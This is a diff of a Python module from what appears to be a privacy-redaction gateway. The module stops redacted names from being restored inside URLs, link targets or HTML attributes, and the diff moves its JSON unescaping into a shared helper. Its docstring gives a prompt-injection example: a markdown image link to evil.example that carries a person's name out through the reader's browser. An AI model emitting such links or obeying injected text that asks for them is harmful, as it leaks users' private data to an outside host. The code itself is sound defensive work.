@@ -1,6 +1,6 @@
 """Places where no value may be put back: addresses, link targets, attributes of HTML elements.
 
-An injected document can make a model write ``![](https://evil.example/?q=[PERSON_1])``; if the gateway put the name
+An injected document can make a model write ``![](https://evil.example/?q=[PERSON1])``; if the gateway put the name
 in, the reader's browser would carry it out of the house. So restoration asks `Place.is_unsafe`, and redaction asks
 `areas`: whatever is found inside such a place travels as *one* value with the whole address or tag, which stands
 alone again when it comes back. Both sides use the same rules on this page, or the round trip would break.
@@ -21,6 +21,8 @@ from collections.abc import Iterator
 from typing import NamedTuple
 
 import regex
+
+from gateway.redaction.nesting import PIECE, Nesting, unescaped
 
 _SPACE = re.compile(r"[\x00-\x20\x7f]")
 _SCHEMES = ("http", "https", "ftp", "ftps", "ws", "wss", "file", "blob", "data", "javascript", "vbscript", "mailto")
@@ -47,8 +49,6 @@ _BEGINNING = re.compile(r"(?:<[a-z]?[\w:.\-]{0,40}|\](?:[(:][\t\n ]{0,40})?)\Z",
 """What may still become one of the two."""
 _NESTED = 16
 _LIMIT, _NAMES = 4096, 256
-_JSON = re.compile(r'"|\\u([0-9a-f]{4})|\\(.)|[^"\\]+', re.IGNORECASE | re.DOTALL)
-_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}
 
 
 class Area(NamedTuple):
@@ -136,7 +136,7 @@ class Place:
     """
 
     def __init__(self, *, json_string: bool = False) -> None:
-        self._json = json_string
+        self._nesting = Nesting() if json_string else None
         self._shown: list[str] = []
         self._forget()
 
@@ -149,11 +149,17 @@ class Place:
         """Take note of `text`, which the reader sees next."""
         self._shown.append(text)
 
+    @property
+    def depth(self) -> int:
+        """How often a value must be escaped here, once `is_unsafe` was asked."""
+        return max(1, self._nesting.depth) if self._nesting else 0
+
     def is_unsafe(self) -> bool:
         """Say whether a value inserted here would become part of an address, a link target or an attribute."""
         text = "".join(self._shown)
         self._shown.clear()
-        if self._json:
+        if self._nesting:
+            self._nesting.feed(text)
             text = self._string(text)
             self._head += text[:_LIMIT - len(self._head)]
             if any(not self._head[:area.start].strip() for area in _addresses(self._head)):
@@ -163,14 +169,12 @@ class Place:
     def _string(self, source: str) -> str:
         """Return what `source` adds to the JSON string it ends in, unescaped; at each quote begins another text."""
         parts: list[str] = []
-        for piece in _JSON.finditer(source):
+        for piece in PIECE.finditer(source):
             if piece[0] == '"':
                 parts.clear()
                 self._forget()
-            elif piece[1]:
-                parts.append(chr(int(piece[1], 16)))
             else:
-                parts.append(_ESCAPES.get(piece[2], piece[2]) if piece[2] else piece[0])
+                parts.append(unescaped(piece))
         return "".join(parts)
 
     def _in_address(self, text: str) -> bool:
